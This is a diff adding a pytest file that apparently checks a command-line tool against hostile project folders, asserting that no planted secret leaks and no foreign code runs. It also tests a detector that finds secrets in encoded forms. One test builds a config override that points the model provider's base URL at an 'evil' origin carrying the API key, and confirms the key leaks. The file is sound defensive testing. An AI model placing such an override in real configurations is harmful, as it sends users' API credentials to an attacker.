@@ -1,0 +1,55 @@
+"""Each hostile folder given to each command."""
+
+from pathlib import Path
+
+import pytest
+
+from tests.hostile.attacks import Attack
+from tests.hostile.conftest import Origins
+from tests.hostile.matrix import ATTACKS, check, typed
+from tests.hostile.place import Place
+from tests.hostile.planted import FILES, KEY, secrets_in
+
+CELLS = [
+    pytest.param(attack, name, id=f"{attack.id}, {name}")
+    for attack in ATTACKS
+    for name in attack.commands
+]
+
+
+@pytest.mark.parametrize(("attack", "name"), CELLS)
+def test_no_secret_leaves_and_nothing_of_a_stranger_runs(
+    attack: Attack, name: str, origins: Origins, tmp_path: Path
+) -> None:
+    outcome = typed(attack, name, tmp_path / "p", *origins)
+    wrong = check(attack, name, outcome)
+    assert not wrong, f"{'; '.join(wrong)}\n{outcome.shown[-2000:]}"
+
+
+def test_every_folder_is_given_to_some_command() -> None:
+    assert len({attack.folder for attack in ATTACKS}) == 8
+    assert len(CELLS) == len({param.id for param in CELLS})
+
+
+def test_what_is_looked_for_is_found(place: Place) -> None:
+    outcome = place.type("eval", "--config", "own.yaml")
+    assert outcome.code == 0
+    assert KEY.encode() in place.good.whole
+    assert not outcome.left
+    assert not outcome.ran
+    place.module("planted.py", "def solve(*_):\n    return 1\n")
+    outcome = place.type("eval", "--config", "own.yaml", "--verify", "planted.py:solve")
+    assert "planted.py" in outcome.ran
+    evil = f"agent.model.model_provider={{base_url: '{place.evil.origin}/v1', api_key: '{KEY}'}}"
+    outcome = place.type("eval", "--config", "own.yaml", "--set", evil, "--restart-step", "0")
+    assert outcome.left == ["UTU_LLM_API_KEY"]
+
+
+@pytest.mark.parametrize(
+    "form",
+    [str.upper, str.lower, lambda s: s.encode().hex(), lambda s: f"%22{s}", lambda s: s[::-1]],
+)
+def test_a_secret_is_found_in_other_notations(form: "type[str]") -> None:
+    for name, (secret, _) in FILES.items():
+        assert secrets_in(b"x" + form(secret).encode() + b"y") == [name]
+    assert not secrets_in(b"nothing of that kind")
